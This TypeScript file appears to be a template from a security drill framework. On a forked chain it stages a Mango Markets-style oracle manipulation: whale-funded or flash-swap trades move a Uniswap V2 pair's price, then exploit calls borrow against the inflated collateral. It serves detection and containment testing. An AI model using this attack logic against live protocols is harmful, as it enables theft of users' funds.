// Template (c): price manipulation through a real AMM pair on the chain (a Uniswap V2 pair from
// the address book, the params, or the factory's getPair), then the configured exploit calls.
// The attacker's swap is funded by an impersonated whale (a holder of the input token at the fork
// block) or minted on test tokens; the swap goes straight to the pair (transfer in, then
// `swap()`), as a router would. Modelled on Mango Markets (2022-10-11): a thin market pushed up,
// then borrowing against the inflated collateral.
//
// Flash-swap variant (`flashSwap`): no whale capital — the attacker's contract (DrillFlashSwapper)
// borrows tokenIn from a Uniswap V2 pair in a flash swap and does everything inside
// `uniswapV2Call`: with `flashSwap.from` (another pair holding tokenIn) it swaps the loan through
// `pair` (moving its price), makes the exploit calls, sells the bought tokens back and repays with
// the 0.3% fee; with `flashSwap: true` it borrows from `pair` itself and makes the exploit calls
// with the loan (a pair's reserves do not move until its own flash swap returns, and it is locked,
// so that form gives the exploit capital, not a price move). Only the fee shortfall is funded
// (whale or mint), up front, to the contract.
import { Contract } from "ethers";
import { deploy, units } from "../helpers.js";
import { amountOf, callNow, fundToken, register, resolveAddress, sendCall, tokenUnit, txOf, type CallSpec } from "../kit.js";
import { DrillSkip, type DrillChain } from "../types.js";
import { buildTemplate, type TemplateBase, type TemplateState } from "./common.js";

const PAIR_ABI = [
  "function token0() view returns (address)",
  "function token1() view returns (address)",
  "function getReserves() view returns (uint112, uint112, uint32)",
  "function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes data)",
];
const FACTORY_ABI = ["function getPair(address, address) view returns (address)"];
const ERC20_ABI = ["function transfer(address,uint256) returns (bool)"];

export interface PriceManipulationParams extends TemplateBase {
  /** The pair: "$pair" / an address; or found through `factory` (getPair(tokenIn, tokenOut)). */
  pair?: string;
  factory?: string;
  /** The token the attacker sells into the pair, and the other token of the pair. */
  tokenIn: string;
  tokenOut?: string;
  /** How much it sells ("500000e18"); in the flash-swap variant, how much it borrows. */
  amountIn: string | number;
  /** A holder of tokenIn at the fork block to fund the swap (flash swap: the fee) from (impersonated); else minted (test tokens). */
  whale?: string;
  /** Sent in the block of the swap, from the attacker, e.g. borrow against the inflated price.
   * Flash swap: made by the attacker's contract inside the callback ("$self" = the contract). */
  exploit: CallSpec[];
  /** Calls the attacker sends in setup (deposit collateral, approvals), as "$self" (flash swap: through its contract). */
  attackerSetup?: CallSpec[];
  /** Funds the attacker (flash swap: its contract) starts with for attackerSetup. */
  attackerFunds?: { token: string; amount: string | number; whale?: string };
  /** Rounds of (swap + exploit), one block each (default 1). */
  rounds?: number;
  /**
   * Flash-swap variant. `{ from: "$otherPair" }`: borrow `amountIn` of tokenIn from that pair,
   * swap it through `pair`, exploit, sell back (`swapBack`, default true), repay with the fee.
   * `true`: borrow from `pair` itself and make the exploit calls with the loan (no price move).
   */
  flashSwap?: boolean | { from?: string; swapBack?: boolean };
}

/** Uniswap V2's getAmountOut (0.3% fee). */
export function amountOut(amountIn: bigint, reserveIn: bigint, reserveOut: bigint): bigint {
  const withFee = amountIn * 997n;
  return (withFee * reserveOut) / (reserveIn * 1000n + withFee);
}

/** What a Uniswap V2 flash swap of `amount` repays in the same token (DrillFlashSwapper.repayAmount). */
export function flashRepay(amount: bigint): bigint {
  return amount + (amount * 3n) / 997n + 1n;
}

const same = (a: string, b: string) => a.toLowerCase() === b.toLowerCase();

/** token0, token1 and reserves of a Uniswap V2 pair, or a DrillSkip naming `field`. */
async function readPair(chain: DrillChain, pair: string, field: string): Promise<{ t0: string; t1: string; r0: bigint; r1: bigint }> {
  if ((await chain.ethers.provider.getCode(pair)) === "0x") throw new DrillSkip(`no AMM pair at ${field} ${pair} at this block`);
  const c = new Contract(pair, PAIR_ABI, chain.ethers.provider);
  try {
    const [t0, t1] = [String(await c.getFunction("token0")()), String(await c.getFunction("token1")())];
    const [r0, r1] = (await c.getFunction("getReserves")()) as [bigint, bigint];
    return { t0, t1, r0, r1 };
  } catch {
    throw new DrillSkip(`${field} ${pair} is not a Uniswap V2 pair (token0()/token1()/getReserves() failed)`);
  }
}

export function priceManipulation(params: PriceManipulationParams) {
  if (!params?.tokenIn) throw new Error("template price-manipulation: params.tokenIn is required (the token sold into the pair)");
  if (params.amountIn === undefined) throw new Error('template price-manipulation: params.amountIn is required (e.g. "500000e18")');
  if (!Array.isArray(params.exploit)) throw new Error("template price-manipulation: params.exploit (the calls after the swap) is required; [] to only move the price");
  if (!params.pair && !params.factory) throw new Error("template price-manipulation: name the pair (params.pair) or the factory (params.factory) with tokenIn and tokenOut");
  const flash = params.flashSwap === true ? {} : params.flashSwap || undefined;
  if (params.flashSwap !== undefined && typeof params.flashSwap !== "boolean" && (typeof params.flashSwap !== "object" || params.flashSwap === null)) {
    throw new Error('template price-manipulation: params.flashSwap must be true or { "from": "$otherPair", "swapBack": true }');
  }
  if (flash) {
    const bad = [...params.exploit, ...(params.attackerSetup ?? [])].find((c) => c.from !== undefined);
    if (bad) throw new Error(`template price-manipulation: with params.flashSwap the exploit and attackerSetup calls are made by the attacker's contract; remove "from" (${JSON.stringify(bad.from)}) from ${bad.signature}`);
  }
  let pair = "";
  let tokenIn = "";
  let tokenOut = "";
  let zeroForOne = true;
  let attacker = "";
  let flashPair = "";
  let executor: Contract | undefined;
  return buildTemplate<PriceManipulationParams>(
    {
      template: "price-manipulation",
      title: flash ? "Flash-swap price manipulation through an AMM pair, then the exploit" : "Price manipulation through an AMM pair, then the exploit",
      incidentClass: "oracle manipulation through a thin AMM market",
      reference: { incident: "Mango Markets", date: "2022-10-11", loss: "~$114M", url: "https://www.cftc.gov/PressRoom/PressReleases/8647-23" },
      summary: flash
        ? "The attacker's contract borrows the swap's input in a Uniswap V2 flash swap and, inside the callback, moves a real pair's spot price, makes the configured exploit calls, sells back and repays with the 0.3% fee — all in one transaction."
        : "The attacker swaps a large amount into a real Uniswap V2 pair to move its spot price, then makes the configured exploit calls in the same block.",
      contain: { containWithinBlocks: 1, maxFalseAlarms: 0 },
      async prepare(s, p) {
        tokenIn = resolveAddress(p.tokenIn, s.names, "tokenIn");
        if (p.pair) pair = resolveAddress(p.pair, s.names, "pair");
        else {
          if (!p.tokenOut) throw new DrillSkip("price-manipulation: with params.factory, name tokenOut too (the pair's other token)");
          const factory = new Contract(resolveAddress(p.factory!, s.names, "factory"), FACTORY_ABI, s.chain.ethers.provider);
          pair = String(await factory.getFunction("getPair")(tokenIn, resolveAddress(p.tokenOut, s.names, "tokenOut")));
          if (/^0x0{40}$/i.test(pair)) throw new DrillSkip(`the factory has no pair for ${p.tokenIn} / ${p.tokenOut} at this block`);
        }
        const { t0, t1 } = await readPair(s.chain, pair, "pair");
        if (!same(t0, tokenIn) && !same(t1, tokenIn)) throw new DrillSkip(`tokenIn ${tokenIn} is neither token of the pair ${pair} (${t0}, ${t1})`);
        zeroForOne = same(t0, tokenIn);
        tokenOut = zeroForOne ? t1 : t0;
        attacker = s.names.attacker!;
        const rounds = p.rounds ?? 1;
        const whale = p.whale ? resolveAddress(p.whale, s.names, "whale") : undefined;
        const amount = amountOf(p.amountIn, "amountIn");
        s.facts.pair = pair;
        if (flash) {
          await prepareFlash(s, p, amount, rounds, whale);
        } else {
          await fundToken(s.chain, tokenIn, attacker, amount * BigInt(rounds), whale);
          s.facts.swapFundedBy = whale ? `whale ${whale} (impersonated)` : "minted (test token)";
        }
        const self = flash ? await executor!.getAddress() : attacker;
        if (p.attackerFunds) {
          const t = resolveAddress(p.attackerFunds.token, s.names, "attackerFunds.token");
          await fundToken(s.chain, t, self, amountOf(p.attackerFunds.amount, "attackerFunds.amount"), p.attackerFunds.whale ? resolveAddress(p.attackerFunds.whale, s.names, "attackerFunds.whale") : undefined);
        }
        if (flash) {
          if (p.attackerSetup?.length) await executeNow(s, p.attackerSetup, self);
        } else {
          for (const call of p.attackerSetup ?? []) await callNow(s.chain, { ...call, from: attacker }, s.names, attacker);
        }
      },
      async attack(s, ctx, p) {
        const signer = await s.chain.impersonate(attacker);
        const amount = amountOf(p.amountIn, "amountIn");
        for (let r = 0; r < (p.rounds ?? 1); r++) {
          const c = new Contract(pair, PAIR_ABI, signer);
          const [r0, r1] = (await c.getFunction("getReserves")()) as [bigint, bigint, number];
          const [rIn, rOut] = zeroForOne ? [r0, r1] : [r1, r0];
          const out = amountOut(amount, rIn, rOut);
          if (flash) {
            const self = await executor!.getAddress();
            if (r === 0) ctx.record.note(flashPair === pair ? `the attacker's contract flash-borrows ${amount} of ${tokenIn} from the pair ${pair} and makes the exploit calls with it` : `the attacker's contract flash-borrows ${amount} of ${tokenIn} from ${flashPair}, sells it into the pair ${pair}, exploits, sells back and repays`);
            const calls = flashPair === pair ? exploitCalls(s, p, self) : swapCalls(s, p, self, amount, rIn, rOut, out);
            const ex = executor!.connect(signer) as Contract;
            await ctx.send("malicious", () => ex.getFunction("flashSwap")(flashPair, tokenIn, amount, calls, { gasLimit: 3_000_000 }), "flash swap: borrow, move the price, exploit, repay (one transaction)");
          } else {
            if (r === 0) ctx.record.note(`the attacker sells ${amount} of ${tokenIn} into the pair ${pair}`);
            const token = new Contract(tokenIn, ERC20_ABI, signer);
            await ctx.send("malicious", () => token.getFunction("transfer")(pair, amount, { gasLimit: 200_000 }), "swap: tokens into the pair");
            await ctx.send("malicious", () => c.getFunction("swap")(zeroForOne ? 0n : out, zeroForOne ? out : 0n, attacker, "0x", { gasLimit: 300_000 }), "swap: pair.swap() moves the spot price");
            for (const call of p.exploit) await sendCall(ctx, "malicious", { ...call, from: call.from ?? attacker }, s.names, attacker);
          }
          await ctx.nextBlock();
        }
      },
    },
    params,
  );

  /** Flash swap: deploy the attacker's contract, check the lending pair, fund the fee shortfall. */
  async function prepareFlash(s: TemplateState, p: PriceManipulationParams, amount: bigint, rounds: number, whale?: string): Promise<void> {
    flashPair = flash!.from ? resolveAddress(flash!.from, s.names, "flashSwap.from") : pair;
    const fp = await readPair(s.chain, flashPair, "flashSwap.from");
    const loanReserve = same(fp.t0, tokenIn) ? fp.r0 : same(fp.t1, tokenIn) ? fp.r1 : null;
    if (loanReserve === null) throw new DrillSkip(`flashSwap.from ${flashPair} does not hold tokenIn ${tokenIn} (its tokens: ${fp.t0}, ${fp.t1}): name a pair of tokenIn to borrow from`);
    if (loanReserve <= amount) throw new DrillSkip(`flashSwap: the pair ${flashPair} holds ${loanReserve} of tokenIn, not more than amountIn ${amount}: borrow less or from a deeper pair`);
    executor = await deploy(s.chain, "DrillFlashSwapper", [attacker], s.actors.localDeployer);
    const self = register(s.chain, "attackerContract", await executor.getAddress());
    s.names.attackerContract = self;
    // The shortfall the contract must hold before the callback's calls give the rest back: the fee
    // (same pair), or the repayment minus what selling back returns at today's reserves, + 0.1% margin.
    let need = flashRepay(amount) - amount;
    if (flashPair !== pair && flash!.swapBack !== false) {
      const { t0, r0, r1 } = await readPair(s.chain, pair, "pair");
      const [rIn, rOut] = same(t0, tokenIn) ? [r0, r1] : [r1, r0];
      const out = amountOut(amount, rIn, rOut);
      need = flashRepay(amount) - amountOut(out, rOut - out, rIn + amount) + amount / 1_000n;
    } else if (flashPair !== pair) need = flashRepay(amount);
    await fundToken(s.chain, tokenIn, self, need * BigInt(rounds), whale);
    const u = await tokenUnit(s.chain, tokenIn);
    s.facts.flashSwap = `${units(amount, u.decimals, u.symbol)} borrowed from ${flashPair}${flashPair === pair ? " (the pair itself)" : ""} by the attacker's contract ${self}, repaid ${units(flashRepay(amount), u.decimals, u.symbol)} (0.3% fee) in the same transaction`;
    s.facts.swapFundedBy = `flash swap; ${units(need * BigInt(rounds), u.decimals, u.symbol)} for the fee${flashPair !== pair && flash!.swapBack !== false ? " and the round trip's slippage" : ""} ${whale ? `from whale ${whale} (impersonated)` : "minted (test token)"}`;
  }

  /** The exploit calls as DrillFlashSwapper.Call tuples, "$self" = the contract. */
  function exploitCalls(s: TemplateState, p: PriceManipulationParams, self: string): [string, string, bigint][] {
    return p.exploit.map((c) => {
      const t = txOf(c, s.names, self);
      return [t.to, t.data, t.value] as [string, string, bigint];
    });
  }

  /** In the callback: sell the loan into `pair`, exploit, sell the bought tokens back. */
  function swapCalls(s: TemplateState, p: PriceManipulationParams, self: string, amount: bigint, rIn: bigint, rOut: bigint, out: bigint): [string, string, bigint][] {
    const transfer = (token: string, amt: bigint) => [token, txOf({ to: token, signature: "transfer(address,uint256)", args: [pair, amt.toString()] }, s.names, self).data, 0n] as [string, string, bigint];
    const swap = (inIs0: boolean, o: bigint) => [pair, txOf({ to: pair, signature: "swap(uint256,uint256,address,bytes)", args: [inIs0 ? "0" : o.toString(), inIs0 ? o.toString() : "0", self, "0x"] }, s.names, self).data, 0n] as [string, string, bigint];
    const calls = [transfer(tokenIn, amount), swap(zeroForOne, out), ...exploitCalls(s, p, self)];
    if (flash!.swapBack !== false) {
      const back = amountOut(out, rOut - out, rIn + amount);
      calls.push(transfer(tokenOut, out), swap(!zeroForOne, back));
    }
    return calls;
  }

  /** attackerSetup through the contract's execute(), sent by the attacker. */
  async function executeNow(s: TemplateState, calls: CallSpec[], self: string): Promise<void> {
    const signer = await s.chain.impersonate(attacker);
    const tuples = calls.map((c) => {
      const t = txOf(c, s.names, self);
      return [t.to, t.data, t.value] as [string, string, bigint];
    });
    try {
      await (await (executor!.connect(signer) as Contract).getFunction("execute")(tuples)).wait();
    } catch (err) {
      const e = err as { shortMessage?: string; message?: string };
      throw new DrillSkip(`attackerSetup through the attacker's contract failed: ${e.shortMessage ?? e.message?.split("\n")[0]}`);
    }
  }
}
